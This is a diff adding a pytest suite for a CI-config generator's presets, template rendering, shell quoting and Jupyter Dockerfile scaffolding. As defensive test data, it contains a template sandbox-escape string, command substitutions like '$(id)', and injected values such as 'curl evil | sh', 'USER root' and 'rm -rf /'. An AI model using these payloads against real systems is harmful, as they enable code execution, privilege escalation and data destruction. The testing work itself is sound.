@@ -1,0 +1,369 @@
+"""Presets: the built-in files, preset validation, rendering, ``presets list|show``, scaffold."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import click
+import pytest
+from click.testing import CliRunner
+
+from cigen.errors import CigenError
+from cigen.generate.presets import builtin_presets, load_catalog, parse_preset
+from cigen.generate.render import dq, render
+from cigen.generate.spec import make_validator
+
+BUILTIN = {"kaniko", "run-image", "jupyter"}
+
+
+def invoke(*args: str) -> tuple[int, str, str]:
+    """Run a command like ``cigen.cli.main`` would: (exit code, stdout, stderr)."""
+    from cigen.generate.commands import register
+
+    group = click.Group("cigen")
+    register(group)
+    result = CliRunner().invoke(group, list(args), standalone_mode=False)
+    err = result.stderr
+    exc = result.exception
+    if exc is None:
+        code = result.return_value
+    elif isinstance(exc, CigenError):
+        code, err = 2, err + f"cigen: error: {exc}\n"
+    elif isinstance(exc, click.ClickException):
+        code, err = 2, err + exc.format_message() + "\n"
+    else:
+        raise exc
+    assert isinstance(code, int)
+    return code, result.stdout, err
+
+
+@pytest.fixture
+def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.chdir(tmp_path)
+    return tmp_path
+
+
+# --- the built-in presets -----------------------------------------------------------------------
+
+
+def test_builtin_presets_load() -> None:
+    presets = builtin_presets()
+    assert set(presets) >= BUILTIN
+    for name, preset in presets.items():
+        assert preset.name == name
+        assert preset.builtin and preset.source == f"<built-in>/{name}.yaml"
+        assert preset.summary and preset.description and preset.params
+        for param in preset.params:
+            assert param.description, (name, param.name)
+            assert param.required or param.has_default, (name, param.name)
+
+
+def test_builtin_examples_are_valid_jobs() -> None:
+    from cigen.generate.spec import SCHEMA_RESOURCE
+    from cigen.resources import own_schema
+    from cigen.yamlload import load_text, to_plain
+
+    validator = make_validator(own_schema(SCHEMA_RESOURCE))
+    for preset in builtin_presets().values():
+        assert preset.examples, preset.name
+        for example in preset.examples:
+            jobs = to_plain(load_text("example", example).body)
+            assert list(validator.iter_errors({"registry": "r", "jobs": jobs})) == []
+            assert {job["preset"] for job in jobs.values()} == {preset.name}
+
+
+def test_kaniko_defaults_follow_the_seed() -> None:
+    kaniko = builtin_presets()["kaniko"]
+    defaults = {p.name: p.default for p in kaniko.params if p.has_default}
+    assert defaults["executor"] == "gcr.io/kaniko-project/executor:debug"
+    assert defaults["image_tags"] == ["${CI_COMMIT_SHORT_SHA}", "latest"]
+    assert defaults["tags"] == ["harbor"]
+    assert defaults["cache"] is True
+    assert kaniko.job["image"]["entrypoint"] == [""]
+
+
+def test_jupyter_token_comes_from_a_variable_reference() -> None:
+    jupyter = builtin_presets()["jupyter"]
+    assert jupyter.job["variables"] == {"JUPYTER_TOKEN": "${{ token_variable }}"}
+    token = jupyter.param("token_variable")
+    assert token is not None
+    validator = make_validator(jupyter.params_schema())
+    values = {"registry": "r", "image": "i"}
+    for bad in ("JUPYTER_TOKEN", "secret value", "$X", "a\n"):
+        assert list(validator.iter_errors({**values, "token_variable": bad})), bad
+    assert not list(validator.iter_errors({**values, "token_variable": "MY_TOKEN"}))
+
+
+# --- preset file validation ---------------------------------------------------------------------
+
+GOOD = """\
+name: hello
+summary: Say hello
+description: Prints a greeting.
+stage: greet
+required: [who]
+params:
+  who: {type: string, description: Whom to greet.}
+  times: {type: integer, default: 1, description: How many times.}
+job:
+  script: ['echo "hello {{ who }}"']
+"""
+
+BROKEN = {
+    "name differs from file": (GOOD.replace("name: hello", "name: hullo"), "1:7", "named"),
+    "unknown top key": (GOOD + "colour: red\n", "11:1", "unknown key 'colour'"),
+    "param without description": (
+        GOOD.replace("who: {type: string, description: Whom to greet.}", "who: {type: string}"),
+        "7:8",
+        "missing key 'description'",
+    ),
+    "stage inside job": (GOOD + "  stage: test\n", "10:3", "not allowed"),
+    "required but unknown": (GOOD.replace("[who]", "[who, whom]"), "5:17", "'whom' is not in"),
+    "required with default": (
+        GOOD.replace("required: [who]", "required: [who, times]"),
+        "5:1",
+        "is required and has a default",
+    ),
+    "default of the wrong type": (
+        GOOD.replace("default: 1", "default: one"),
+        "8:35",
+        "does not fit its own schema",
+    ),
+    "invalid param schema": (
+        GOOD.replace("type: integer", "type: integer, minimum: x"),
+        "8:35",
+        "params.times is not a valid JSON Schema: 'x' is not of type 'number'",
+    ),
+    "unknown param type": (
+        GOOD.replace("type: integer", "type: integr"),
+        "8:17",
+        "params.times.type: fits none of the allowed forms: 'integr' is not allowed (allowed: "
+        "'string', 'integer', 'number', 'boolean', 'array', 'object', 'null'); or expected a "
+        "list, got a string ('integr')",
+    ),
+    "template syntax": (GOOD.replace("{{ who }}", "{{ who }"), "10:3", "template syntax error"),
+    "not a mapping": ("- a\n", "1:1", "a preset is a mapping"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(BROKEN))
+def test_broken_preset_files_are_reported_at_their_line(case: str) -> None:
+    text, position, words = BROKEN[case]
+    with pytest.raises(CigenError) as info:
+        parse_preset(text.encode(), "presets/hello.yaml", "hello", builtin=False)
+    message = str(info.value)
+    assert message.startswith(f"presets/hello.yaml:{position}: "), message
+    assert words in message
+
+
+def test_good_preset_parses() -> None:
+    preset = parse_preset(GOOD.encode(), "presets/hello.yaml", "hello", builtin=False)
+    assert [p.name for p in preset.params] == ["who", "times"]
+    assert preset.order == 500
+    assert preset.params_schema()["required"] == ["who"]
+
+
+def test_project_presets_add_and_override(tmp_path: Path) -> None:
+    folder = tmp_path / "presets"
+    folder.mkdir()
+    (folder / "hello.yaml").write_text(GOOD, encoding="utf-8")
+    (folder / "kaniko.yaml").write_text(GOOD.replace("name: hello", "name: kaniko"), "utf-8")
+    (folder / "notes.txt").write_text("not a preset", encoding="utf-8")
+    catalog = load_catalog(folder, "presets")
+    assert set(catalog) == BUILTIN | {"hello"}
+    assert catalog["hello"].source == "presets/hello.yaml" and not catalog["hello"].builtin
+    assert catalog["kaniko"].overrides_builtin
+    assert not catalog["run-image"].overrides_builtin
+    assert list(catalog) == sorted(catalog)
+
+
+# --- rendering ----------------------------------------------------------------------------------
+
+
+def test_whole_value_placeholders_keep_the_type_and_null_drops_the_key() -> None:
+    template = {
+        "tags": "{{ tags }}",
+        "timeout": "{{ timeout }}",
+        "script": ["{{ first }}", "echo {{ n }}"],
+        "list": ["{{ timeout }}", "kept"],
+        "number": 3,
+    }
+    out = render(
+        template,
+        {"tags": ["a", "b"], "timeout": None, "first": "x", "n": 2},
+        where="t",
+    )
+    assert out == {"tags": ["a", "b"], "script": ["x", "echo 2"], "list": ["kept"], "number": 3}
+
+
+def test_render_copies_parameter_data() -> None:
+    tags = ["a"]
+    out = render({"tags": "{{ tags }}"}, {"tags": tags}, where="t")
+    out["tags"].append("b")
+    assert tags == ["a"]
+
+
+def test_values_are_never_rendered_again() -> None:
+    value = "{{ 7*7 }} {% if true %}x{% endif %}"
+    out = render({"a": "{{ v }}", "b": "[{{ v }}]"}, {"v": value}, where="t")
+    assert out == {"a": value, "b": f"[{value}]"}
+
+
+def test_undefined_names_are_errors() -> None:
+    with pytest.raises(CigenError, match=r"^preset x: job\.script\[1\]: 'nope' is undefined"):
+        render({"job": {"script": ["ok", "{{ nope }}"]}}, {}, where="preset x")
+
+
+def test_the_sandbox_blocks_attribute_escapes() -> None:
+    with pytest.raises(CigenError, match="template error"):
+        render({"a": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}, {}, where="t")
+
+
+def test_mapping_keys_are_not_templates() -> None:
+    out = render({"{{ k }}": "{{ v }}"}, {"k": "key", "v": "value"}, where="t")
+    assert out == {"{{ k }}": "value"}
+
+
+@pytest.mark.parametrize(
+    ("value", "quoted"),
+    [
+        ("plain", '"plain"'),
+        ("${CI_PROJECT_DIR}/x", '"${CI_PROJECT_DIR}/x"'),
+        ("$HOME", '"$HOME"'),
+        ("$(id)", '"\\$(id)"'),
+        ("$$", '"\\$\\$"'),
+        ("cost $5", '"cost \\$5"'),
+        ("`id`", '"\\`id\\`"'),
+        ('say "hi"', '"say \\"hi\\""'),
+        ("back\\slash", '"back\\\\slash"'),
+        ("new\nline", '"new\nline"'),
+    ],
+)
+def test_dq_makes_one_shell_word(value: str, quoted: str) -> None:
+    assert dq(value) == quoted
+
+
+# --- presets list / show ------------------------------------------------------------------------
+
+
+def test_presets_list(project: Path) -> None:
+    (project / "presets").mkdir()
+    (project / "presets" / "hello.yaml").write_text(GOOD, encoding="utf-8")
+    code, out, _ = invoke("presets", "list")
+    assert code == 0
+    lines = out.splitlines()
+    assert [line.split()[0] for line in lines] == ["hello", "jupyter", "kaniko", "run-image"]
+    assert "Say hello  [presets/hello.yaml]" in lines[0]
+    kaniko = builtin_presets()["kaniko"]
+    assert lines[2].endswith(kaniko.summary)
+
+
+def test_presets_show_documents_parameters(project: Path) -> None:
+    code, out, _ = invoke("presets", "show", "kaniko")
+    assert code == 0
+    kaniko = builtin_presets()["kaniko"]
+    assert out.startswith(f"kaniko: {kaniko.summary}\nsource: built-in\nstage: build\n")
+    for param in kaniko.params:
+        assert f"\n  {param.name} (" in out
+    assert '  image_tags (array of string, default: ["${CI_COMMIT_SHORT_SHA}", "latest"])' in out
+    assert "  image (string, required)" in out
+    assert "  registry (string, default: registry: at the top of cigen.yml)" in out
+    assert "Examples (in jobs: of cigen.yml):" in out
+
+
+def test_presets_show_schema_is_the_parameter_schema(project: Path) -> None:
+    code, out, _ = invoke("presets", "show", "run-image", "--schema")
+    assert code == 0
+    assert json.loads(out) == builtin_presets()["run-image"].params_schema()
+
+
+def test_presets_show_a_project_preset_with_config(project: Path) -> None:
+    (project / "ci" / "presets").mkdir(parents=True)
+    (project / "ci" / "presets" / "hello.yaml").write_text(GOOD, encoding="utf-8")
+    code, out, _ = invoke("presets", "show", "hello", "-c", "ci/cigen.yml")
+    assert code == 0
+    assert "source: ci/presets/hello.yaml" in out
+    assert "  who (string, required)\n      Whom to greet." in out
+    assert "  times (integer, default: 1)" in out
+
+
+def test_presets_show_unknown_exits_2(project: Path) -> None:
+    code, _, err = invoke("presets", "show", "kanik")
+    assert code == 2
+    assert "unknown preset 'kanik' (available: jupyter, kaniko, run-image)" in err
+
+
+# --- scaffold jupyter ---------------------------------------------------------------------------
+
+
+def test_scaffold_jupyter_writes_a_non_root_dockerfile(project: Path) -> None:
+    code, out, _ = invoke("scaffold", "jupyter", "--namespace", "team-ci")
+    assert code == 0
+    text = (project / "Dockerfile").read_text(encoding="utf-8")
+    lines = text.splitlines()
+    assert "FROM python:3.12-slim" in lines
+    assert "RUN pip install --no-cache-dir jupyter_server ipykernel numpy pandas" in lines
+    users = [line for line in lines if line.startswith("USER ")]
+    assert users == ["USER jupyter"]
+    assert lines.index("USER jupyter") < next(i for i, x in enumerate(lines) if x.startswith("CMD"))
+    assert "JUPYTER_TOKEN" in text and "token=" not in text.lower()
+    assert "EXPOSE 8888" in lines
+    assert "kubectl port-forward -n team-ci pod/<pod> 8888:8888" in out
+    assert "NOTEBOOK_TOKEN" in out
+
+
+def test_scaffold_jupyter_options(project: Path) -> None:
+    code, out, _ = invoke(
+        "scaffold",
+        "jupyter",
+        "-o",
+        "jupyter.Dockerfile",
+        "--base-image",
+        "nvidia/cuda:12.4.1-runtime-ubuntu22.04",
+        "--package",
+        "torch==2.6.0",
+        "--port",
+        "9000",
+        "--token-variable",
+        "LAB_TOKEN",
+    )
+    assert code == 0
+    text = (project / "jupyter.Dockerfile").read_text(encoding="utf-8")
+    assert "FROM nvidia/cuda:12.4.1-runtime-ubuntu22.04\n" in text
+    assert "pip install --no-cache-dir jupyter_server ipykernel torch==2.6.0\n" in text
+    assert "--port=9000" in text
+    assert 'dockerfile: "${CI_PROJECT_DIR}/jupyter.Dockerfile"' in out
+    assert "port: 9000, token_variable: LAB_TOKEN" in out
+    assert "kubectl port-forward -n NAMESPACE pod/<pod> 9000:9000" in out
+
+
+def test_scaffold_jupyter_refuses_to_overwrite(project: Path) -> None:
+    (project / "Dockerfile").write_text("FROM mine\n", encoding="utf-8")
+    code, _, err = invoke("scaffold", "jupyter")
+    assert code == 2
+    assert "Dockerfile exists; use --force" in err
+    assert (project / "Dockerfile").read_text(encoding="utf-8") == "FROM mine\n"
+    code, _, _ = invoke("scaffold", "jupyter", "--force")
+    assert code == 0
+    assert "USER jupyter" in (project / "Dockerfile").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ("--base-image", "python:3.12\nRUN curl evil | sh"),
+        ("--package", "numpy\nUSER root"),
+        ("--package", "numpy; rm -rf /"),
+        ("--token-variable", "JUPYTER_TOKEN"),
+        ("--token-variable", "bad name"),
+        ("--namespace", "Bad_NS"),
+        ("--port", "80"),
+    ],
+)
+def test_scaffold_jupyter_rejects_values_that_would_change_the_file(
+    args: tuple[str, ...], project: Path
+) -> None:
+    code, _, _ = invoke("scaffold", "jupyter", *args)
+    assert code == 2
+    assert not (project / "Dockerfile").exists()
